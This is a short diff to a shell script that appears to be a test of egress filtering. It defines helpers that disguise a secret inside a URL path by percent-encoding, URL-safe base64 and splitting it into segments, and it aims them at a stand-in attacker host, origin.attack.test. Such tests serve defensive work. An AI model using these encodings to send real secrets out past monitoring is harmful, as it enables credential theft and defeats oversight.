@@ -1,6 +1,6 @@
 # A secret to an allowed host in the path, whole and percent-encoded.
 need curl python3
-all() { text "$1" | python3 -c 'import sys; print("".join("%%%02x" % b for b in sys.stdin.buffer.read()))'; }
+all() { text "$1" | python3 -c 'import sys; print("".join("/" if b == 47 else "%%%02x" % b for b in sys.stdin.buffer.read()))'; }
 b64() { text "$1" | base64 -w0 | tr '+/' '-_'; }
 split() { text "$1" | sed 's|............|&/|g'; }
 where="https://origin.attack.test:$PORT"
